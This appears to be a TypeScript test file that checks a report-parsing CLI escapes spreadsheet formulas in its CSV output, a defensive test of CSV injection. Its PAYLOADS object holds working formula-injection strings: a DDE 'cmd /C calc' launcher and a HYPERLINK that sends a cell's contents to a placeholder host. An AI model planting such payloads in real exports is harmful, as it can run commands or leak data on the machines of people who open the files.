/**
 * CSV for spreadsheets: a text cell starting with =, +, -, @, tab or carriage return would be run
 * as a formula by Excel or LibreOffice (OWASP "CSV injection"). Such a cell is written with a
 * leading apostrophe, in `parse --format csv` and in every file `convert` writes; numbers stay
 * numbers.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, stringifyRows } from "../src/emit/csv.js";
import { runCli } from "./helpers/cli.js";

const ROOT = resolve(import.meta.dirname, "..");

const PAYLOADS = {
  definition: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
  comments: "+SUM(1,2)",
  dataQuality: "@SUM(1+1)*cmd|' /C calc'!A0",
  baseline: "-2+3+cmd|' /C calc'!A0",
  officer: "=1+1",
};

/** The Q4 seed with formulas planted in cells of TP-1a's first indicator and its action table. */
function poisonedUpdate(): string {
  const dir = mkdtempSync(join(tmpdir(), "lsp-injection-"));
  let text = readFileSync(join(ROOT, "fixtures/seeds/001_6f959b4cb1bc6ca1.txt"), "latin1");
  text = text.replace(
    "NI 158\tPercentage of non-decent council homes\t22.81% (March 2008)\t15.0%\t10.0%\t5.0%\t18.46\tNo Concerns with data",
    `NI 158\t${PAYLOADS.definition}\t${PAYLOADS.baseline}\t15.0%\t10.0%\t5.0%\t18.46\t${PAYLOADS.dataQuality}`,
  );
  text = text.replace("Increase the number of decent homes\tPaul Langford", `Increase the number of decent homes\t${PAYLOADS.officer}`);
  const path = join(dir, "poisoned.txt");
  writeFileSync(path, text, "latin1");
  return path;
}

/** A cell a spreadsheet would evaluate; a plain number such as -2 is data (written from a number). */
function startsDangerously(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
}

describe("neutraliseCell", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+SUM(1,2)", "'+SUM(1,2)"],
    ["-2+3", "'-2+3"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["a=b", "a=b"],
    ["", ""],
    [" =1", " =1"],
  ])("%j → %j", (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
  });

  it("leaves numbers, booleans and nulls alone: -2.5 as a number is data, not a formula", () => {
    expect(neutraliseCell(-2.5)).toBe(-2.5);
    expect(neutraliseCell(true)).toBe(true);
    expect(neutraliseCell(null)).toBe(null);
    expect(stringifyRows([{ a: -2.5, b: "-2.5" }], ["a", "b"])).toBe("a,b\n-2.5,'-2.5\n");
  });
});

describe("CSV injection through a document", () => {
  const path = poisonedUpdate();

  function check(csv: string, kind: string): void {
    const rows = parseCsv<Record<string, string>>(csv, { columns: true, bom: true });
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(startsDangerously(cell), `${kind}.${column}: ${cell}`).toBe(false);
  }

  it("the planted formulas reach the records (so the test means something)", async () => {
    const run = await runCli(["parse", path]);
    const indicator = JSON.parse(run.stdout).reports[0].priorities[0].indicators[0];
    expect(indicator.definition).toBe(PAYLOADS.definition);
    expect(indicator.dataQuality).toBe(PAYLOADS.dataQuality);
    expect(indicator.baseline.raw).toBe(PAYLOADS.baseline);
  });

  it.each(["priorities", "indicators", "actions", "contributors"])("parse --format csv --records %s neutralises every such cell", async (kind) => {
    const run = await runCli(["parse", path, "--format", "csv", "--records", kind]);
    expect(run.code).toBe(0);
    check(run.stdout, kind);
  });

  it("parse keeps the text after the apostrophe", async () => {
    const run = await runCli(["parse", path, "--format", "csv", "--records", "indicators"]);
    const row = parseCsv<Record<string, string>>(run.stdout, { columns: true })[0];
    expect(row!.definition).toBe(`'${PAYLOADS.definition}`);
    expect(row!.data_quality).toBe(`'${PAYLOADS.dataQuality}`);
    expect(row!.baseline_raw).toBe(`'${PAYLOADS.baseline}`);
  });

  it("convert neutralises every such cell in every file it writes, with and without --bom", async () => {
    for (const extra of [[], ["--bom"]]) {
      const out = mkdtempSync(join(tmpdir(), "lsp-injection-out-"));
      const run = await runCli(["convert", path, "--out-dir", out, ...extra]);
      expect(run.code).toBe(0);
      for (const kind of ["priorities", "indicators", "actions", "contributors"]) check(readFileSync(join(out, `${kind}.csv`), "utf8"), kind);
      const priorities = parseCsv<Record<string, string>>(readFileSync(join(out, "priorities.csv"), "utf8"), { columns: true, bom: true });
      expect(priorities[0]!.lead_officer).toBe(`'${PAYLOADS.officer}`);
    }
  });
});
